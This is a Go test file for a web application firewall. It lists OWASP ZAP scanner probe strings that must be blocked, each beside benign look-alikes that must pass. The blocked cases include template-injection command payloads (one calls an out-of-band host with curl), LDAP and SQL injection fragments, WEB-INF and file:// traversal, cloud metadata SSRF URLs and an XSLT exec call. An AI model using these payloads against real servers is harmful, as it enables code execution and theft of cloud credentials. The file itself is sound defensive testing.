package waf

import "testing"

// TestScannerProbeClasses: the shapes of OWASP ZAP's active scan rules
// that neither the stage nor Coraza + CRS caught (testdata/corpus
// attack-zap-*.json has them all), each beside the ordinary text closest
// to it, in a query value and a JSON member.
func TestScannerProbeClasses(t *testing.T) {
	checkBlocks(t, sharedStage(t), []string{"query", "json"}, []blockCase{
		// Template engines with single braces, Dust, Django, Go, Ruby.
		{"zj{2614*1450}zj", true}, {"}zj{@2614*1450}zj", true}, {`zj{@math key="2614" method="multiply" operand="1450"/}zj`, true},
		{"zj{{26140|add:14500}}zj", true}, {`zj{{print "2614" "1450"}}zj`, true},
		{"<%=%x(curl http://oob.example.com)%>", true}, {"#{%x(sleep 5)}", true},
		{"Room {12} holds 4 * 3 people", false}, {"{{ user.name | upper }}", false}, {"print the {2} copies", false},
		// LDAP filters closed and reopened at any depth.
		{")))(((objectClass=*", true}, {"))))((((((cn=*", true}, {"f(g(x)) ((a + b) = c)", false},
		// Java web descriptors and local file URLs.
		{"WEB-INF/web.xml", true}, {`\WEB-INF\web.xml`, true}, {"../WEB-INF/classes/app.properties", true}, {"file:///", true}, {`file:\\\c:\`, true},
		{"Put it in web-inf.md", false}, {"file://server/share is a UNC-like URL", false},
		// HSQLDB's and H2's Java calls, SQL comments that end a value.
		{`" / "java.lang.Thread.sleep"(5000) "`, true}, {"XYZABCDEFGHIJ'  -- ", true}, {" DESC  -- ", true},
		{"java.lang.Thread is a class", false}, {"sort: DESC -- newest first", false}, {"She said 'no' -- and left.", false},
		// Cloud metadata services.
		{"http://169.254.169.254/latest/meta-data/", true}, {"http://aws.zaproxy.org/latest/meta-data/", true},
		{"http://metadata.oraclecloud.com/opc/v2/instance/", true}, {"http://metadata.google.internal/computeMetadata/v1/", true},
		{"https://docs.example.com/latest/guide/metadata.html", false},
		// XSLT and ASP.
		{"system-property('xsl:vendor')/>", true}, {`<xsl:value-of select="php:function('exec','id')"/>`, true},
		{"response.write(268,327*513,977)", true}, {"the system property xsl is set", false}, {"write a response (please)", false},
	})
}
